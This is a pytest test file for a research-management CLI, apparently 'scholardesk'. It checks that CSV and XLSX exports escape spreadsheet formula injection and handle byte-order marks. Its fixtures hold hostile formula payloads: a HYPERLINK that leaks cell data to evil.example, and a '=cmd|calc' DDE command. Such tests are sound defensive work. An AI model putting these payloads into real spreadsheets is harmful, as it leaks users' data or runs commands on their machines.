"""Every CSV/XLSX export from the command line: no live formulas, BOM unless --no-bom."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from scholardesk.cli import main

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
BOM = b"\xef\xbb\xbf"


def _home(tmp_path: Path) -> list[str]:
    return ["--home", str(tmp_path / "home")]


def test_reviews_articles_xlsx_has_no_formula_cells(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "evil.csv"
    src.write_text(
        "doi,title,journal,issn,received,accepted\n"
        f'10.5555/evil.1,"{EVIL.replace(chr(34), chr(34) * 2)}",=cmd|calc,1234-5679,'
        "2021-01-10,2021-04-15\n",
        encoding="utf-8",
    )
    assert main([*_home(tmp_path), "reviews", "import", str(src)]) == 0
    out = tmp_path / "a.xlsx"
    assert main([*_home(tmp_path), "reviews", "articles", "--xlsx", str(out)]) == 0
    ws = load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert EVIL in [c.value for c in cells]
    csv_out = tmp_path / "a.csv"
    assert main([*_home(tmp_path), "reviews", "articles", "--csv", str(csv_out)]) == 0
    text = csv_out.read_bytes()
    assert text.startswith(BOM) and b"'=HYPERLINK" in text and b",=" not in text


def test_papers_csv_export_escapes_and_no_bom_gives_plain_utf8(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bib = tmp_path / "evil.bib"
    bib.write_text("@article{e, title={@SUM(1+1) 标题}, author={Li, Lei}, year={2020}}\n",
                   encoding="utf-8")
    assert main([*_home(tmp_path), "papers", "import", str(bib)]) == 0
    with_bom, plain = tmp_path / "p.csv", tmp_path / "plain.csv"
    assert main([*_home(tmp_path), "papers", "export", "--format", "csv", "--out", str(with_bom)]) == 0
    assert main([*_home(tmp_path), "papers", "export", "--format", "csv", "--out", str(plain),
                 "--no-bom"]) == 0
    assert with_bom.read_bytes().startswith(BOM)
    assert not plain.read_bytes().startswith(BOM)
    assert "'@SUM(1+1) 标题" in plain.read_text(encoding="utf-8")


def test_experiments_csv_table_gets_a_bom_and_keeps_negative_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "r.csv"
    data.write_text("model,dataset,metric,value\n-Net,D,delta,-1.5\n=X,D,delta,-2.5\n",
                    encoding="utf-8")
    assert main([*_home(tmp_path), "experiments", "import", str(data), "--experiment", "e"]) == 0
    out = tmp_path / "t.csv"
    assert main([*_home(tmp_path), "experiments", "table", "--experiment", "e", "--format", "csv",
                 "--out", str(out)]) == 0
    raw = out.read_bytes()
    assert raw.startswith(BOM)
    body = raw.decode("utf-8-sig")
    assert "'-Net,D,,,delta,-1.5," in body and "'=X,D,,,delta,-2.5," in body
    plain = tmp_path / "plain.csv"
    assert main([*_home(tmp_path), "experiments", "table", "--experiment", "e", "--format", "csv",
                 "--out", str(plain), "--no-bom"]) == 0
    assert not plain.read_bytes().startswith(BOM)
